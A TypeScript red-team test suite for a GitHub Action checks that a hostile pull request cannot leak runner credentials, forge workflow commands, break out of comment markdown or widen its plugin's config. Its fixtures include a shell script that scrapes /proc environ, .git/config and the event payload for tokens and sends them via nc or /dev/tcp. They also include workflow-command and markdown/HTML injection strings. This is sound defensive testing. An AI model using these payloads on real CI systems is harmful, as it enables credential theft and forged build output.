// Red-team attacks on the GitHub Action (issue 11): a same-repository pull request whose plugin,
// file names, Application names and rendered resources are the attacker's, run through the real
// bundle (dist/index.js) under the simulated runner (test/action/harness.ts). What must hold:
// no runner credential reaches the PR comment, the job summary, the diff file or the log; nothing
// from the repository forges a workflow command; the comment stays a bounded number of parts and
// its markdown cannot be broken out of; a pull request's own config cannot widen what its plugin gets.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { TOKEN, fakeApi, gitRepo, pullRequestEvent, runAction, ONE_ERROR, type RunResult } from '../action/harness.js';
import { appYaml, listener, pluginYaml, PRINT_CM } from './attack-helpers.js';

const C = (what: string) => ['rtcan', 'ary-', what].join('');


/** Every place an Action run writes text a reader sees. */
function everything(r: RunResult, comments: { body: string }[]): { where: string; text: string }[] {
  const out = [
    { where: 'step log (stdout)', text: r.stdout.split('\n').filter((l) => l !== `::add-mask::${TOKEN}`).join('\n') },
    { where: 'stderr', text: r.stderr },
    { where: 'job summary', text: r.summary },
    { where: 'outputs', text: JSON.stringify(r.outputs) },
    ...comments.map((c, i) => ({ where: `PR comment ${i + 1}`, text: c.body })),
  ];
  if (r.outputs['diff-file']) out.push({ where: 'diff file', text: readFileSync(r.outputs['diff-file'], 'utf8') });
  return out;
}

test('action, pull request: a plugin hunting the runner (ancestors\' environ and cmdline, event payload, HOME, .git/config) leaks nothing into any output and cannot phone home', async () => {
  const net = await listener();
  const hunt = `P=rtcan; P="\${P}ary"
loot="$(env 2>/dev/null)"
for p in /proc/[0-9]*; do
  e="$(tr '\\0' '\\n' < $p/environ 2>/dev/null)"
  loot="$loot $e $(tr '\\0' ' ' < $p/cmdline 2>/dev/null)"
  for f in $(printf '%s\\n' "$e" | sed -n 's/^GITHUB_EVENT_PATH=//p; s/^HOME=\\(.*\\)/\\1\\/.gitconfig/p'); do loot="$loot $(cat "$f" 2>/dev/null)"; done
done
for d in . .. ../.. ../../..; do loot="$loot $(cat $d/.git/config 2>/dev/null)"; done
tok="$(printf '%s\\n' "$loot" | grep -o -E "ghs_[A-Za-z0-9_-]+|$P-[a-z0-9-]*" | sort -u | tr '\\n' ' ')"
send() { if command -v busybox >/dev/null 2>&1; then busybox nc -w 2 127.0.0.1 ${net.port}; else bash -c 'exec 3<>/dev/tcp/127.0.0.1/$0 && cat >&3' ${net.port}; fi; }
printf 'sent %s\\n' "$tok" | send >/dev/null 2>&1
echo "stolen: $tok" >&2
printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: loot\\ndata:\\n  stolen: "%s"\\n' "$tok"
`;
  const repo = gitRepo({ 'argocd/plugin.yaml': pluginYaml('hunter', PRINT_CM), 'argocd/apps/demo.yaml': appYaml('demo', 'hunter'), 'apps/demo/x.txt': '1\n' });
  const base = repo.commit({}, 'base');
  const head = repo.commit({ 'argocd/plugin.yaml': pluginYaml('hunter', hunt), 'apps/demo/x.txt': '2\n' }, 'innocent change');
  const git = (...a: string[]) => execFileSync('git', ['-C', repo.root, ...a], { encoding: 'utf8' });
  git('config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${C('extraheader')}`);
  git('config', 'includeIf.gitdir:/.path', '/dev/null');
  const api = await fakeApi(7);
  try {
    const event = { ...pullRequestEvent(7, base, head), canary: C('event-payload') };
    const r = await runAction({
      cwd: repo.root,
      eventName: 'pull_request',
      event,
      apiUrl: api.url,
      env: { GITHUB_TOKEN: TOKEN, ACTIONS_RUNTIME_TOKEN: C('actions-runtime'), ACTIONS_ID_TOKEN_REQUEST_TOKEN: C('id-token'), AWS_SECRET_ACCESS_KEY: C('aws') },
    });
    assert.notEqual(r.code, null);
    const md = r.outputs['diff-file'] ? readFileSync(r.outputs['diff-file'], 'utf8') : '';
    assert.match(md + r.summary, /loot|demo/, `the diff ran:\n${r.stdout.slice(-3000)}`);
    for (const { where, text } of everything(r, api.comments)) {
      assert.ok(!text.includes(TOKEN), `the github-token reached the ${where}`);
      const leaked = text.match(/rtcanary-[a-z0-9-]+/g);
      assert.equal(leaked, null, `${leaked?.join(', ')} reached the ${where}`);
    }
    assert.equal(net.connections(), 0, 'the plugin reached a listener on 127.0.0.1');
  } finally {
    await api.close();
    await net.close();
  }
});


/**
 * Lines of the step log the runner would take as workflow commands that the repository forged.
 * Inside a stop-commands block opened by cmp-lint (an unguessable `cmp-lint-<uuid>` token) nothing
 * is a command until the token comes back, so those lines are inert.
 */
function forged(stdout: string): string[] {
  const bad: string[] = [];
  let stopped: string | undefined;
  for (const line of stdout.split('\n')) {
    if (stopped) {
      if (line === `::${stopped}::`) stopped = undefined;
      continue;
    }
    const m = /^\s*::([a-z-]+)( [^:]*)?::(.*)$/.exec(line);
    if (/^\s*##\[/.test(line) && line.includes('FORGED')) bad.push(line);
    if (!m) continue;
    const [, cmd, , msg] = m;
    if (cmd === 'stop-commands') {
      if (/^cmp-lint-[0-9a-f-]{36}$/.test(msg)) stopped = msg;
      else bad.push(line);
      continue;
    }
    if (cmd === 'add-mask') {
      if (msg !== TOKEN) bad.push(line);
      continue;
    }
    if (!['error', 'warning', 'notice', 'group', 'endgroup', 'debug'].includes(cmd)) bad.push(line);
    // a genuine line of cmp-lint may quote a name holding FORGED (escaped); a forged one starts with it
    else if (msg.startsWith('FORGED')) bad.push(line);
  }
  return bad;
}

test('action, pull request: file names, Application names, plugin stderr and resources cannot forge workflow commands in the step log', async () => {
  const noisy = `cat >&2 <<'EOF'
::stop-commands::FORGEDRESUME
::error file=README.md,line=1::FORGED stderr annotation
::add-mask::FORGED-mask
::set-output name=errors::FORGED
##[error]FORGED old-style
FORGEDRESUME
EOF
printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: "x\\\\n::error::FORGED-resource"\\ndata:\\n  k: "line\\\\n::warning::FORGED-content"\\n'
exit 1`;
  const app = appYaml('demo', 'noisy').replace('name: demo', 'name: "demo\\n::error::FORGED-app-name"');
  const repo = gitRepo({ 'argocd/plugin.yaml': pluginYaml('noisy', PRINT_CM), 'argocd/apps/demo.yaml': app, 'apps/demo/x.txt': '1\n' });
  const base = repo.commit({}, 'base');
  const head = repo.commit(
    {
      'argocd/plugin.yaml': pluginYaml('noisy', noisy),
      'apps/demo/x.txt': '2\n',
      // a file with a lint error whose name carries a workflow command after a newline
      'argocd/legacy\n::error::FORGED-file-name\n.yaml': ONE_ERROR,
      'argocd/legacy%0A::warning::FORGED-encoded.yaml': ONE_ERROR,
    },
    'noise',
  );
  const api = await fakeApi(7);
  try {
    const r = await runAction({ cwd: repo.root, eventName: 'pull_request', event: pullRequestEvent(7, base, head), apiUrl: api.url });
    assert.notEqual(r.code, null);
    assert.match(r.stdout, /legacy-cm-plugin/, 'the lint ran');
    assert.deepEqual(forged(r.stdout), [], 'forged workflow commands in the step log');
    assert.doesNotMatch(r.stdout + r.stderr, /\n\s+at .*\(.*:\d+:\d+\)/, 'no stack trace');
  } finally {
    await api.close();
  }
});

test('action, pull request: resource names and contents cannot break out of the comment markup, mention people or load images', async () => {
  // the manifest is a file of the head commit; the plugin prints it
  const evil = [
    'apiVersion: v1',
    'kind: ConfigMap',
    'metadata:',
    '  name: "a</details></summary>@acme/security-team ![p](https://tracker.example/p.png)"',
    '  namespace: "<img src=https://tracker.example/i.png>"',
    'data:',
    '  fence: "x\\n```\\n</details>\\n# FORGED heading @acme/admins ![t](https://tracker.example/t.png)\\n<img src=https://tracker.example/j.png>\\n````\\n"',
    '',
  ].join('\n');
  const repo = gitRepo({ 'argocd/plugin.yaml': pluginYaml('md', 'cat manifest.yaml'), 'argocd/apps/demo.yaml': appYaml('demo', 'md'), 'apps/demo/manifest.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: plain\n' });
  const base = repo.commit({}, 'base');
  const head = repo.commit({ 'apps/demo/manifest.yaml': evil });
  const api = await fakeApi(7);
  try {
    const r = await runAction({ cwd: repo.root, eventName: 'pull_request', event: pullRequestEvent(7, base, head), apiUrl: api.url });
    assert.notEqual(r.code, null);
    const bodies = api.comments.map((c) => c.body);
    assert.ok(bodies.length > 0, `a comment was posted:\n${r.stdout.slice(-2000)}`);
    for (const text of [...bodies, r.summary]) {
      const outside = outsideCode(text);
      assert.doesNotMatch(outside, /@acme\//, `an @-mention outside code:\n${outside.slice(0, 5000)}`);
      assert.doesNotMatch(outside, /tracker\.example/, 'a remote image outside code');
      assert.doesNotMatch(outside, /^# FORGED/m, 'a heading injected');
      const opens = (outside.match(/<details/g) ?? []).length;
      const closes = (outside.match(/<\/details>/g) ?? []).length;
      assert.equal(opens, closes, `<details> unbalanced in:\n${text.slice(0, 4000)}`);
    }
  } finally {
    await api.close();
  }
});

/** Markdown text with fenced code blocks and code spans removed (what GitHub renders as markup). */
function outsideCode(md: string): string {
  const out: string[] = [];
  let fence: string | undefined;
  for (const line of md.split('\n')) {
    const m = /^\s*(`{3,}|~{3,})/.exec(line);
    if (fence) {
      if (m && m[1][0] === fence[0] && m[1].length >= fence.length && line.trim() === m[1]) fence = undefined;
      continue;
    }
    if (m) {
      fence = m[1];
      continue;
    }
    out.push(line.replace(/(`+)(?:(?!\1).)+?\1/g, ''));
  }
  return out.join('\n');
}

test('action, pull request: a change affecting many applications posts a bounded number of comment parts', async () => {
  const big = `awk -v v="$(cat x.txt)" 'BEGIN { for (i = 0; i < 250; i++) printf "apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: cm-%d\\ndata:\\n  v: \\"%s-%0120d\\"\\n---\\n", i, v, i }'`;
  const files: Record<string, string> = { 'argocd/plugin.yaml': pluginYaml('big', big) };
  for (let i = 0; i < 8; i++) {
    files[`argocd/apps/a${i}.yaml`] = appYaml(`a${i}`, 'big', `apps/a${i}`);
    files[`apps/a${i}/x.txt`] = '1\n';
  }
  const repo = gitRepo(files);
  const base = repo.commit({}, 'base');
  const change: Record<string, string> = {};
  for (let i = 0; i < 8; i++) change[`apps/a${i}/x.txt`] = '2\n';
  const head = repo.commit(change);
  const api = await fakeApi(7);
  try {
    const r = await runAction({ cwd: repo.root, eventName: 'pull_request', event: pullRequestEvent(7, base, head), apiUrl: api.url });
    assert.notEqual(r.code, null);
    assert.ok(api.comments.length > 0, r.stdout.slice(-2000));
    assert.ok(api.comments.length <= 5, `${api.comments.length} comment parts posted`);
  } finally {
    await api.close();
  }
});

test('action, pull request: the head .cmp-lint.yaml cannot widen render.env or render.timeout', async () => {
  const probe = `echo "seen=\${WIDEN_ME:-unset}" >&2
case "$(cat x.txt)" in 2) sleep 20;; esac
printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: p\\ndata:\\n  seen: "%s"\\n' "\${WIDEN_ME:-unset}"`;
  const repo = gitRepo({
    'argocd/plugin.yaml': pluginYaml('probe', probe),
    'argocd/apps/demo.yaml': appYaml('demo', 'probe'),
    'apps/demo/x.txt': '1\n',
    '.cmp-lint.yaml': 'render:\n  timeout: 3s\n',
  });
  const base = repo.commit({}, 'base');
  const head = repo.commit({ '.cmp-lint.yaml': 'render:\n  timeout: 10m\n  env: [WIDEN_ME]\n', 'apps/demo/x.txt': '2\n' });
  const api = await fakeApi(7);
  try {
    const r = await runAction({ cwd: repo.root, eventName: 'pull_request', event: pullRequestEvent(7, base, head), apiUrl: api.url, env: { WIDEN_ME: C('widened') } });
    assert.notEqual(r.code, null);
    for (const { where, text } of everything(r, api.comments)) assert.ok(!text.includes(C('widened')), `the head's render.env reached the plugin (${where})`);
    // the base's 3s deadline applies: the head render fails on it instead of sleeping 20s
    const md = readFileSync(r.outputs['diff-file'], 'utf8');
    assert.match(md, /deadline|timed out|timeout/i, md);
  } finally {
    await api.close();
  }
});
